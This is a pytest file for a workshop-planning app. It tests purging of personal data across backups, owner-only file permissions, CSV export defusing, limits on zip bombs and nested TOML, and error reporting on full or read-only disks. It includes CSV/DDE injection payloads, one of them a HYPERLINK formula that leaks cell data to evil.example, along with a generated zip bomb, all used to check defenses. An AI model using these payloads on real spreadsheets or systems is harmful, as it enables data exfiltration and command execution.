"""Privacy in storage: a purge reaches every copy the app made, files only their owner can
read, CSV cells a spreadsheet will not run, limits on hostile input, and cards whose codes
are kept before the PDF is written."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import stat
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from workshop.cli import main
from workshop.core import backups, boards, feedback, paths, purge, session_plans
from workshop.core.agenda import add_exercise
from workshop.core.errors import ValidationError
from workshop.core.sessions import add_session
from workshop.core.store import Programme

ROOT = Path(__file__).resolve().parents[1]
NAME = "Bartholomew Quince"
CONTACT = "zq@example.net"
PHONE = "+48 601 234 567"
ADDRESS = "14 Penny Lane M1 2AB"
PLANTED = [NAME, CONTACT, PHONE, ADDRESS]


def _plant(path: Path) -> str:
    """A past session whose participant, form answers and contact are personal."""
    with Programme.open(path) as p, p.transaction():
        past = add_session(
            p,
            {
                "title": "Library drop-in",
                "starts_at": "2020-01-10T10:00",
                "purge_after": "2020-07-10",
            },
        )
        p.insert(
            "participants",
            {
                "session_id": past,
                "code": "P-001",
                "name": NAME,
                "contact": f"{CONTACT} {PHONE}",
                "consent_recorded_at": "2020-01-10",
            },
        )
        answers = {
            "Your name (optional)": NAME,
            "Phone (if you want a reply)": PHONE,
            "Address": ADDRESS,
            "What do you think?": "The bins need looking at.",
        }
        p.insert(
            "feedback_responses",
            {
                "session_id": past,
                "channel": "online",
                "text": "\n".join(f"{k}: {v}" for k, v in answers.items()),
                "answers_json": json.dumps(answers),
                "dedupe_key": "planted-1",
            },
        )
    return past


def _every_copy_on_disk(path: Path) -> list[Path]:
    """The file, its log, every backup and kept copy, and every hidden file beside it."""
    found = [p for p in path.parent.iterdir() if p.is_file()]
    if paths.backups_dir().is_dir():
        found += [p for p in paths.backups_dir().rglob("*") if p.is_file()]
    return found


def _holding_planted(files: list[Path]) -> dict[str, list[str]]:
    held: dict[str, list[str]] = {}
    for file in files:
        data = file.read_bytes()
        words = [w for w in PLANTED if w.encode() in data]
        if words:
            held[file.name] = words
    return held


def _run(*args: str) -> int:
    return main([str(a) for a in args])


# ----- purge reaches every copy -------------------------------------------------------------------


def test_purge_reaches_every_copy_the_app_made(tmp_path, capsys):
    folder = tmp_path / "programmes"
    folder.mkdir()
    path = folder / "estate.workshop"
    assert _run("new", path, "--title", "Estate") == 0
    _plant(path)
    # A manual backup, a "before merge" backup, a "before restore" copy kept beside the
    # file, and the hidden half-made file of an import that was killed.
    assert _run("backup", path) == 0
    colleague = tmp_path / "colleague.workshop"
    assert _run("new", colleague, "--title", "Estate") == 0
    with Programme.open(colleague) as other:
        add_session(other, {"title": "Youth club", "starts_at": "2020-02-01T18:00"})
    assert _run("merge", path, colleague, "--yes") == 0
    reasons = {b.reason for b in backups.list_backups(path)}
    assert {"manual", "merge"} <= reasons
    manual = next(b for b in backups.list_backups(path) if b.reason == "manual")
    assert _run("restore", path, manual.path) == 0
    kept = backups.kept_copies(path)
    assert len(kept) == 1
    interrupted = folder / ".estate.workshop.k3j4h5g6.part"
    shutil.copy(path, interrupted)
    before = _holding_planted(_every_copy_on_disk(path))
    assert kept[0].name in before and interrupted.name in before and len(before) >= 5
    capsys.readouterr()

    assert _run("purge", path, "--yes") == 0
    out = capsys.readouterr().out
    assert "and kept cop" in out and kept[0].name in out
    assert "half-made" in out

    assert _holding_planted(_every_copy_on_disk(path)) == {}
    assert not interrupted.exists()
    for backup in backups.list_backups(path):
        assert backups.check_backup(backup.path) is None
    with Programme.open(path, read_only=True) as p:
        (log,) = purge.purge_log(p)
        assert log["copies_done_at"]
        copies = json.loads(log["copies"])
        assert kept[0].name in copies and interrupted.name in copies
        assert any(name.startswith("backups") for name in copies)
        # The anonymous part of the form answer stays.
        (response,) = p.rows("feedback_responses")
        assert "The bins need looking at." in response["text"]


def test_a_purge_killed_after_its_commit_finishes_at_the_next_run(tmp_path, capsys):
    path = tmp_path / "estate.workshop"
    assert _run("new", path, "--title", "Estate") == 0
    _plant(path)
    assert _run("backup", path) == 0
    snapshot = backups.list_backups(path)[0].path
    # Another process purges, commits, and is killed before it reaches the backups.
    killed = subprocess.run(
        [
            sys.executable,
            "-c",
            "import os, sys\n"
            "from workshop.core import purge\n"
            "from workshop.core.store import Programme\n"
            "p = Programme.open(sys.argv[1])\n"
            "purge.purge(p)\n"
            "os._exit(9)\n",
            str(path),
        ],
        env={**os.environ, "PYTHONPATH": str(ROOT)},
        cwd=ROOT,
    )
    assert killed.returncode == 9
    assert NAME.encode() in snapshot.read_bytes()  # the copy still holds it
    capsys.readouterr()

    assert _run("purge", path, "--yes") == 0
    out = capsys.readouterr().out
    assert "Finished removing earlier purged data" in out
    assert "No personal data is due" in out
    assert _holding_planted(_every_copy_on_disk(path)) == {}
    with Programme.open(path, read_only=True) as p:
        assert all(row["copies_done_at"] for row in purge.purge_log(p))
        assert not purge.copies_pending(p)


def test_opening_the_file_in_the_app_finishes_an_interrupted_purge_and_cleans_leftovers(
    qtbot, tmp_path
):
    from workshop.ui import file_opening

    path = tmp_path / "estate.workshop"
    assert _run("new", path, "--title", "Estate") == 0
    _plant(path)
    assert _run("backup", path) == 0
    with Programme.open(path) as p:
        purge.purge(p)  # committed; the copies not reached yet
    assert purge.copies_pending(Programme.open(path, read_only=True))
    leftover = tmp_path / ".estate.workshop.a1b2c3d4.part"
    shutil.copy(path, leftover)
    Path(f"{leftover}-wal").write_bytes(NAME.encode())
    # A second import, still running in another process, keeps its file.
    busy_target = paths.data_dir() / "busy.workshop"
    paths.data_dir().mkdir(parents=True, exist_ok=True)
    busy_part = paths.data_dir() / ".busy.workshop.zz99yy88.part"
    busy_part.write_bytes(b"in progress")
    stale_part = paths.data_dir() / ".old.workshop.qq11ww22.part"
    stale_part.write_bytes(NAME.encode())
    holder = subprocess.Popen(
        [
            sys.executable,
            "-c",
            "import sys, time\n"
            "from workshop.core import instance_lock\n"
            "lock = instance_lock.acquire(sys.argv[1], 'import')\n"
            "print('held', flush=True)\n"
            "time.sleep(30)\n",
            str(busy_target),
        ],
        env={**os.environ, "PYTHONPATH": str(ROOT)},
        cwd=ROOT,
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        assert holder.stdout.readline().strip() == "held"
        programme = file_opening.open_for_window(path, None)
        assert programme is not None and not programme.read_only
        try:
            assert not purge.copies_pending(programme)
        finally:
            programme.close()
    finally:
        holder.kill()
        holder.wait()
    assert not leftover.exists() and not Path(f"{leftover}-wal").exists()
    assert not stale_part.exists()
    assert busy_part.exists()
    assert _holding_planted(_every_copy_on_disk(path)) == {}


# ----- files only their owner can read ----------------------------------------------------------


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.mark.skipif(os.name != "posix", reason="POSIX modes; Windows keeps files in the profile")
@pytest.mark.parametrize("umask", [0o022, 0o000])
def test_files_and_folders_holding_the_record_are_private_whatever_the_umask(tmp_path, umask):
    old = os.umask(umask)
    try:
        path = tmp_path / "new folder" / "estate.workshop"
        assert _run("new", path, "--title", "Estate") == 0
        with Programme.open(path) as p:
            add_session(p, {"title": "Drop-in", "starts_at": "2026-01-10T10:00"})
            wal = Path(f"{path}-wal")
            shm = Path(f"{path}-shm")
            assert _mode(wal) == 0o600 and _mode(shm) == 0o600
            p.save_copy(tmp_path / "copy.workshop")
        assert _mode(path) == 0o600
        assert _mode(path.parent) == 0o700  # made by the app for the file
        assert _mode(tmp_path / "copy.workshop") == 0o600
        assert _run("backup", path) == 0
        backup = backups.list_backups(path)[0].path
        assert _mode(backup) == 0o600
        assert _mode(backup.parent) == 0o700
        assert _mode(paths.backups_dir()) == 0o700
        assert _mode(paths.data_dir()) == 0o700
        assert _run("export", path, "-o", tmp_path / "record.json") == 0
        assert _run("export", path, "-o", tmp_path / "record.zip") == 0
        assert _mode(tmp_path / "record.json") == 0o600
        assert _mode(tmp_path / "record.zip") == 0o600
        assert _run("restore", path, backup) == 0
        assert _mode(path) == 0o600
        assert all(_mode(k) == 0o600 for k in backups.kept_copies(path))
        imported = tmp_path / "imported.workshop"
        assert _run("import", imported, tmp_path / "record.json") == 0
        assert _mode(imported) == 0o600
    finally:
        os.umask(old)


@pytest.mark.skipif(os.name != "posix", reason="POSIX modes")
def test_an_older_files_log_becomes_private_when_opened(tmp_path):
    path = tmp_path / "old.workshop"
    Programme.create(path, "Old").close()
    os.chmod(path, 0o644)
    with Programme.open(path) as p:
        add_session(p, {"title": "Drop-in", "starts_at": "2026-01-10T10:00"})
        assert _mode(Path(f"{path}-wal")) == 0o600
    assert _mode(path) == 0o600


# ----- CSV cells a spreadsheet shows as text ------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+44 7700 900123 call me",
    "-1+1",
    "@SUM(A1:A9)",
    "\tTabbed",
    "\rReturn",
]


def test_zip_csvs_defuse_formulas_and_the_json_keeps_the_words(tmp_path):
    path = tmp_path / "estate.workshop"
    assert _run("new", path, "--title", "Estate") == 0
    with Programme.open(path) as p:
        session = add_session(p, {"title": "=cmd|' /C calc'!A0", "starts_at": "2026-01-10T10:00"})
        exercise = add_exercise(p, session, "board", "Hopes and fears")
        column = p.rows("board_columns", "exercise_id = ?", [exercise])[0]["id"]
        for text in HOSTILE + ["A plain note - with a dash inside"]:
            note = boards.add_note(p, column, text)
            p.update("board_notes", note, {"text": text})  # as typed, leading tab and all
    out = tmp_path / "record.zip"
    assert _run("export", path, "-o", out) == 0
    with zipfile.ZipFile(out) as archive:
        notes_csv = archive.read("tables/board_notes.csv").decode("utf-8-sig")
        sessions_csv = archive.read("tables/sessions.csv").decode("utf-8-sig")
        document = json.loads(archive.read("record.json"))
    rows = list(csv.DictReader(io.StringIO(notes_csv, newline="")))
    texts = sorted(r["text"] for r in rows)
    assert texts == sorted(["'" + t for t in HOSTILE] + ["A plain note - with a dash inside"])
    assert all(not t.startswith(("=", "+", "-", "@", "\t", "\r")) for t in texts)
    (session_row,) = csv.DictReader(io.StringIO(sessions_csv, newline=""))
    assert session_row["title"] == "'=cmd|' /C calc'!A0"
    # The JSON is data, not a spreadsheet: the words exactly as typed, and they come back.
    assert sorted(n["text"] for n in document["board_notes"]) == sorted(
        HOSTILE + ["A plain note - with a dash inside"]
    )
    assert _run("import", tmp_path / "back.workshop", out) == 0
    with Programme.open(tmp_path / "back.workshop", read_only=True) as back:
        assert sorted(r["text"] for r in back.rows("board_notes")) == sorted(
            HOSTILE + ["A plain note - with a dash inside"]
        )


# ----- limits on hostile or odd input -------------------------------------------------------------


def test_a_zip_that_would_unpack_past_the_limit_is_refused_before_it_is_read(tmp_path, capsys):
    bomb = tmp_path / "record.zip"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("record.json", "w", force_zip64=True) as member:
            member.write(b'{"format": "workshop-record", "pad": "')
            chunk = b" " * (1 << 20)
            for _ in range(80):  # 80 MB of spaces: a few hundred kilobytes zipped
                member.write(chunk)
            member.write(b'"}')
    assert bomb.stat().st_size < 1_000_000
    target = tmp_path / "new.workshop"
    assert _run("import", target, bomb) == 2
    err = capsys.readouterr().err
    assert "would unpack to 80 MB" in err and "Nothing was imported" in err
    assert len(err.strip().splitlines()) == 1
    assert sorted(p.name for p in tmp_path.iterdir()) == ["record.zip"]


def test_a_note_past_the_limit_is_refused_when_typed_and_when_imported(tmp_path, capsys):
    path = tmp_path / "estate.workshop"
    assert _run("new", path, "--title", "Estate") == 0
    with Programme.open(path) as p:
        session = add_session(p, {"title": "Drop-in", "starts_at": "2026-01-10T10:00"})
        exercise = add_exercise(p, session, "board", "Hopes and fears")
        column = p.rows("board_columns", "exercise_id = ?", [exercise])[0]["id"]
        boards.add_note(p, column, "x" * 2_000)  # at the limit: kept
        with pytest.raises(ValidationError, match="sticky note is 2,001 characters.*most is 2,000"):
            boards.add_note(p, column, "x" * 2_001)
        assert p.db["board_notes"].count == 1
    record = tmp_path / "record.json"
    assert _run("export", path, "-o", record) == 0
    document = json.loads(record.read_text(encoding="utf-8"))
    document["board_notes"][0]["text"] = "y" * 300_000
    record.write_text(json.dumps(document), encoding="utf-8")
    capsys.readouterr()
    assert _run("import", tmp_path / "new.workshop", record) == 2
    err = capsys.readouterr().err
    assert "board_notes[0]" in err and "300,000 characters" in err
    assert not (tmp_path / "new.workshop").exists()


def test_deeply_nested_toml_gives_a_message_and_one_bad_plan_leaves_the_list(tmp_path, capsys):
    deep = tmp_path / "deep.toml"
    deep.write_text('format = "workshop-deck/1"\nx = ' + "[" * 5000 + "]" * 5000 + "\n")
    assert _run("deck", deep, "-o", tmp_path / "deck.pdf") == 2
    err = capsys.readouterr().err
    assert "nested too deeply" in err and "Traceback" not in err
    assert len(err.strip().splitlines()) == 1
    assert not (tmp_path / "deck.pdf").exists()
    plans = paths.data_dir() / "sessions"
    plans.mkdir(parents=True)
    (plans / "deep.toml").write_text('title = "Deep"\nx = ' + "{a = " * 3000 + "}" * 3000)
    (plans / "mine.toml").write_text(
        'title = "My plan"\n[[exercise]]\nkind = "questions"\ntitle = "Questions"\nminutes = 20\n'
    )
    titles = [plan.title for plan in session_plans.available_plans()]
    assert "My plan" in titles and "Deep" not in titles
    with pytest.raises(ValidationError, match="nested too deeply"):
        session_plans.load_plan(plans / "deep.toml")


def test_a_second_import_into_a_file_being_imported_into_is_refused(tmp_path, demo_path, capsys):
    record = tmp_path / "record.json"
    assert _run("export", demo_path, "-o", record) == 0
    target = tmp_path / "new.workshop"
    first = subprocess.Popen(
        [
            sys.executable,
            "-c",
            "import sys, time\n"
            "from workshop.core import instance_lock\n"
            "lock = instance_lock.acquire(sys.argv[1], 'import')\n"
            "print('importing', flush=True)\n"
            "time.sleep(30)\n",
            str(target),
        ],
        env={**os.environ, "PYTHONPATH": str(ROOT)},
        cwd=ROOT,
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        assert first.stdout.readline().strip() == "importing"
        capsys.readouterr()
        assert _run("import", target, record) == 2
        err = capsys.readouterr().err
        assert "'workshop import' command" in err
        assert not target.exists()
    finally:
        first.kill()
        first.wait()
    assert _run("import", target, record) == 0


# ----- feedback cards: codes kept before the PDF is written -------------------------------------


def _cards_programme(path: Path) -> str:
    assert _run("new", path, "--title", "Estate") == 0
    with Programme.open(path) as p:
        p.update_programme(
            {"feedback_url_template": "https://example.org/have-your-say?card={code}"}
        )
        return add_session(p, {"title": "Drop-in", "starts_at": "2026-01-10T10:00"})


@pytest.mark.skipif(os.name != "posix" or not Path("/dev/full").exists(), reason="needs /dev/full")
def test_cards_that_cannot_be_written_are_marked_not_printed_and_never_reused(tmp_path, capsys):
    path = tmp_path / "estate.workshop"
    session = _cards_programme(path)
    # A folder whose every new file lands on /dev/full: the write fails after the commit.
    folder = tmp_path / "full"
    folder.mkdir()
    out = folder / "cards.pdf"
    real_mkstemp = __import__("tempfile").mkstemp

    def to_full_disk(*args, **kwargs):
        fd, name = real_mkstemp(*args, **kwargs)
        os.close(fd)
        os.unlink(name)
        return os.open("/dev/full", os.O_WRONLY), name

    with pytest.MonkeyPatch.context() as mp:
        mp.setattr("tempfile.mkstemp", to_full_disk)
        assert _run("cards", path, "--session", session, "--count", "4", "-o", out) == 2
    err = capsys.readouterr().err
    assert "No space left on device" in err and "marked 'not printed'" in err
    assert len(err.strip().splitlines()) == 1
    assert not out.exists() and list(folder.iterdir()) == []
    with Programme.open(path, read_only=True) as p:
        (batch,) = p.rows("feedback_batches")
        assert batch["print_status"] == feedback.NOT_PRINTED
        lost = {c["code"] for c in p.rows("feedback_cards")}
        assert len(lost) == 4
    assert _run("cards", path, "--session", session, "--count", "4", "-o", tmp_path / "ok.pdf") == 0
    assert "numbers 5 to 8" in capsys.readouterr().out
    with Programme.open(path, read_only=True) as p:
        printed = p.rows("feedback_cards", "serial > 4")
        assert not lost & {c["code"] for c in printed}
        statuses = sorted(b["print_status"] for b in p.rows("feedback_batches"))
        assert statuses == [feedback.NOT_PRINTED, "printed"]


# ----- honest errors: a full disk, a read-only folder ---------------------------------------------


@pytest.fixture
def small_disk(tmp_path):
    """A real 4 MB file system of its own (needs the right to mount, as root in CI)."""
    mount = tmp_path / "disk"
    mount.mkdir()
    made = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=4m", "tmpfs", str(mount)], capture_output=True
    )
    if made.returncode != 0:
        pytest.skip("cannot mount a small file system here")
    try:
        yield mount
    finally:
        subprocess.run(["umount", "-l", str(mount)], check=False)


def _one_honest_line(err: str, *words: str) -> None:
    assert len(err.strip().splitlines()) == 1, err
    assert "Traceback" not in err and "looks damaged" not in err
    assert any(w in err for w in words), err


def test_a_read_only_folder_is_called_read_only_never_damaged(small_disk, tmp_path, capsys, errors):
    path = small_disk / "estate.workshop"
    session = _cards_programme(path)
    answers = tmp_path / "answers.csv"
    answers.write_text("Card code,What do you think?\nABCD-EFGH,Fine\n", encoding="utf-8")
    subprocess.run(["mount", "-o", "remount,ro", str(small_disk)], check=True)
    capsys.readouterr()
    # Reading works: a healthy file on a read-only medium opens.
    assert _run("sessions", path) == 0
    assert _run("check", path) == 0
    assert _run("export", path, "-o", tmp_path / "record.json") == 0
    capsys.readouterr()
    writing = [
        ["purge", path, "--yes"],
        ["cards", path, "--session", session, "--count", "2", "-o", tmp_path / "cards.pdf"],
        ["import-feedback", path, answers],
        ["new", small_disk / "other.workshop", "--title", "Other"],
        ["import", small_disk / "copy.workshop", tmp_path / "record.json"],
        ["export", path, "-o", small_disk / "record.zip"],
    ]
    for args in writing:
        assert _run(*args) == 2, args
        _one_honest_line(capsys.readouterr().err, "read-only", "Read-only", "cannot write to")
    # The app opens it read-only and says why, without calling it damaged.
    from workshop.ui import file_opening

    programme = file_opening.open_for_window(path, None)
    assert programme is not None and programme.read_only
    assert "cannot write to" in file_opening.banner_text(programme)
    programme.close()
    assert errors == []


def test_a_full_disk_is_called_full_and_leaves_no_pdf_and_no_codes(small_disk, tmp_path, capsys):
    path = small_disk / "estate.workshop"
    session = _cards_programme(path)
    answers = tmp_path / "answers.csv"
    answers.write_text("Card code,What do you think?\nABCD-EFGH,Fine\n", encoding="utf-8")
    filler = small_disk / "filler"
    fd = os.open(filler, os.O_WRONLY | os.O_CREAT)
    try:
        with pytest.raises(OSError):
            while True:
                os.write(fd, b"\0" * 4096)
    finally:
        os.close(fd)
    capsys.readouterr()
    out = small_disk / "cards.pdf"
    for args in (
        ["cards", path, "--session", session, "--count", "30", "-o", out],
        ["import-feedback", path, answers],
        ["purge", path, "--yes"],
        ["new", small_disk / "other.workshop", "--title", "Other"],
    ):
        assert _run(*args) == 2, args
        _one_honest_line(capsys.readouterr().err, "disk is full", "No space left")
    assert not out.exists() and not (small_disk / "other.workshop").exists()
    filler.unlink()
    assert _run("check", path) == 0
    with Programme.open(path, read_only=True) as p:
        assert p.db["feedback_cards"].count == 0


def test_a_purge_merged_in_from_a_colleague_reaches_this_files_backups(tmp_path, capsys):
    path = tmp_path / "estate.workshop"
    assert _run("new", path, "--title", "Estate") == 0
    _plant(path)
    laptop_b = tmp_path / "laptop-b.workshop"
    shutil.copy(path, laptop_b)
    assert _run("purge", laptop_b, "--yes") == 0
    assert _run("backup", path) == 0
    assert _holding_planted([b.path for b in backups.list_backups(path)])
    capsys.readouterr()
    assert _run("merge", path, laptop_b) == 0
    assert "and kept cop" in capsys.readouterr().out
    assert {b.reason for b in backups.list_backups(path)} >= {"manual", "merge"}
    assert _holding_planted(_every_copy_on_disk(path)) == {}
